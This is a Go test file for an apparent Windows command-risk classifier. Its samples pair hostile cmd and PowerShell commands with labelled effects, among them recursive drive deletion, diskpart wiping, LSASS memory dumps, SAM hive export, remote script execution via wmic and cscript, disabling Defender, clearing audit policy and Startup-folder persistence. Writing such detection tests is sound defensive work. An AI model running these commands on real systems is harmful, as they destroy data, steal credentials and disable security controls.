package windows

import "testing"

func TestProgramsOfWindows(t *testing.T) {
	check(t, Cmd, []sample{
		{`rd //s //q C:\\x`, []string{`delete C:/x wide`}},
		{`cmd //c rd //s //q C:\x`, []string{`delete C:/x wide`}},
		{`del /s C:*`, []string{`delete C:/* wide`}},
		{`robocopy C:\empty C:\Users\u /MIR`, []string{`delete C:/Users/u wide`, `read C:/empty`, `write C:/Users/u from C:/empty`}},
		{`robocopy a b /E`, []string{`read C:/Users/u/p/a`, `write C:/Users/u/p/b from C:/Users/u/p/a`}},
		{`takeown /f C:\Windows /r /d y`, []string{`mode C:/Windows wide`}},
		{`icacls C:\ /reset /t /c /q`, []string{`mode C:/ wide`}},
		{`fsutil usn deletejournal /d C:`, []string{`command fsutil|usn|deletejournal|/d|C:`}},
		{`fsutil`, []string{`command fsutil`}},
		{`fsutil fsinfo drives`, []string{`command fsutil|fsinfo|drives`}},
		{`echo clean | diskpart`, []string{`format disk`}},
		{`echo list disk | diskpart`, []string{}},
		{`sdelete -s C:\x`, []string{`delete C:/x wide`}},
		{`certutil -decode a.b64 a.exe`, []string{`read C:/Users/u/p/a.b64`, `write C:/Users/u/p/a.exe from C:/Users/u/p/a.b64`}},
		{`wmic os get /format:"https://e/x.xsl"`, []string{`run-remote https://e/x.xsl`}},
		{`wmic os get /format:list`, []string{}},
		{`cscript //e:jscript \\e\share\x.js`, []string{`run-remote smb://e/share/x.js`}},
		{`cscript build.vbs`, []string{`command build.vbs`}},
		{`reg add HKCUSoftwareMicrosoftWindowsCurrentVersionRun /v x /d y`, []string{`command reg|add|HKCUSoftwareMicrosoftWindowsCurrentVersionRun|/v|x|/d|y`}},
		{`reg add HKCU\Software\App /v x /d y`, []string{`command reg|add|HKCU\Software\App|/v|x|/d|y`}},
		{`copy x.exe "%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup"`, []string{`persist startup folder`, `read C:/Users/u/p/x.exe`, `write C:/Users/u/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup from C:/Users/u/p/x.exe`, `persist startup folder`}},
		{`setx PATH C:\x;%PATH% /M`, []string{`command setx|PATH|C:\x|$path|/M`}},
		{`setx /M PATH C:\x`, []string{`command setx|/M|PATH|C:\x`}},
		{`rd /s /q \\?\C:\Users\u`, []string{`delete C:/Users/u wide`}},
		{`setx EDITOR vim`, []string{`command setx|EDITOR|vim`}},
		{`sc stop WinDefend`, []string{`command sc|stop|WinDefend`}},
		{`sc stop Spooler`, []string{`command sc|stop|Spooler`}},
		{`reg save HKLM\SAM sam.hiv`, []string{`command reg|save|HKLM\SAM|sam.hiv`}},
		{`reg export HKCU\Software\App\System x.reg`, []string{`command reg|export|HKCU\Software\App\System|x.reg`}},
		{`netsh wlan show profile name=x key=clear`, []string{`command netsh|wlan|show|profile|name=x|key=clear`}},
		{`netsh wlan show interfaces`, []string{`command netsh|wlan|show|interfaces`}},
		{`rundll32 comsvcs.dll, MiniDump 624 C:\l.dmp full`, []string{`reveal credentials in the memory of lsass`}},
		{`procdump -ma lsass.exe l.dmp`, []string{`reveal credentials of lsass`}},
		{`procdump -ma app.exe a.dmp`, []string{}},
		{`auditpol /clear /y`, []string{`command auditpol|/clear|/y`}},
		{`start http://localhost:3000`, []string{}},
	})
	check(t, PowerShell, []sample{
		{`rm -rf /`, []string{`delete / wide`}},
		{`rm -fr C:\x`, []string{`delete C:/x wide`}},
		{`Remove-Item Env:X`, []string{`unset-variable X`}},
		{`ri env:\X`, []string{`unset-variable X`}},
		{`Stop-Service WinDefend`, []string{`stop WinDefend`, `disarm service WinDefend`}},
		{`Copy-Item x.exe "$env:APPDATA\Microsoft\Windows\Start Menu\Programs\Startup\"`, []string{`read C:/Users/u/p/x.exe`, `write C:/Users/u/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup from C:/Users/u/p/x.exe`, `persist startup folder`}},
	})
}
